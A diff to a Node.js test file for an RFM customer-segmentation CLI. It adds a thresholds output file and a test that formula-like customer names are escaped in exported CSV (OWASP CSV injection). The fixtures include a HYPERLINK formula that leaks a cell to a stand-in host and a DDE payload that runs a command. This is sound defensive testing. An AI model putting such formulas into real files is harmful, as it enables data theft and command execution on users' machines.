@@ -102,9 +102,10 @@ test('customer-level file: --date is the last order date and --orders the order 
   assert.deepEqual(viaRecency.segments, r.segments);
 });
 
-test('--out writes the segmented customers as UTF-8 CSV with a BOM and the thresholds', () => {
+test('--out writes the segmented customers as UTF-8 CSV with a BOM; --thresholds-out the thresholds, one table per file', () => {
   const out = path.join(tmp, 'customers.csv');
-  const r = runCliJson(['rfm', orders, '--analysis-date=2006-12-31', `--out=${out}`, '--lang=zh']);
+  const thresholdsOut = path.join(tmp, 'thresholds.csv');
+  const r = runCliJson(['rfm', orders, '--analysis-date=2006-12-31', `--out=${out}`, `--thresholds-out=${thresholdsOut}`, '--lang=zh']);
   const bytes = fs.readFileSync(out);
   assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
   const lines = bytes.subarray(3).toString('utf8').split('\r\n');
@@ -112,8 +113,35 @@ test('--out writes the segmented customers as UTF-8 CSV with a BOM and the thres
   const abbey = lines.find((l) => l.startsWith("Abbey O'Reilly,"));
   assert.ok(abbey);
   assert.match(abbey, /,205,6,472,3,4,3,343,Potential Loyalist,潜在忠诚客户,/);
-  assert.ok(lines.includes('threshold_dimension,score,lower,upper,customers,method'));
+  // One table: a header and one row per customer, every row with the header's 17 columns.
+  assert.equal(lines.at(-1), '');
+  assert.equal(lines.length - 2, 995);
+  for (const line of lines.slice(0, -1)) assert.equal(line.split(',').length, 17, line);
   assert.equal(r.segments.find((s) => s.name === 'Champions').label, '冠军客户');
+
+  const t = fs.readFileSync(thresholdsOut);
+  assert.deepEqual([...t.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
+  const rows = t.subarray(3).toString('utf8').split('\r\n').filter(Boolean).map((l) => l.split(','));
+  assert.deepEqual(rows[0], ['dimension', 'score', 'lower', 'upper', 'customers', 'method', 'analysis_date']);
+  const frequency = rows.filter((row) => row[0] === 'frequency');
+  assert.deepEqual(frequency.map((row) => Number(row[2])), r.thresholds.frequency.lower);
+  assert.deepEqual(frequency.map((row) => Number(row[4])), r.thresholds.frequency.counts);
+  assert.ok(rows.slice(1).every((row) => row.length === 7 && row[6] === '2006-12-31'));
+});
+
+test('customer names that spreadsheets would run as formulas are written as text (OWASP CSV injection)', () => {
+  const names = ['=HYPERLINK("http://example.invalid/?"&A1,"点这里")', '+SUM(1+1)', '-2+3', '@SUM(1+1)', '=cmd|\' /C calc\'!A0'];
+  const csv = 'customer,date,amount\n' + names.map((n, i) => `"${n.replaceAll('"', '""')}",2024-01-0${i + 1},${i + 1}0\n`).join('') +
+    'plain,2024-01-09,-20\n';
+  const out = path.join(tmp, 'injection-out.csv');
+  runCliJson(['rfm', write('injection.csv', csv), '--analysis-date=2024-02-01', '--bins=2', '--on-error=skip', `--out=${out}`]);
+  const text = fs.readFileSync(out).subarray(3).toString('utf8');
+  for (const n of names) {
+    const quoted = `'${n}`.includes(',') || n.includes('"') ? `"'${n.replaceAll('"', '""')}"` : `'${n}`;
+    assert.ok(text.includes(`\r\n${quoted},`), `${JSON.stringify(n)} is not written as text`);
+  }
+  // Numbers stay numbers: a return's negative amount has no apostrophe.
+  assert.match(text, /\r\nplain,(?:[^,]*,){8}-20,/);
 });
 
 test('--method=rank gives equal-count bins', () => {
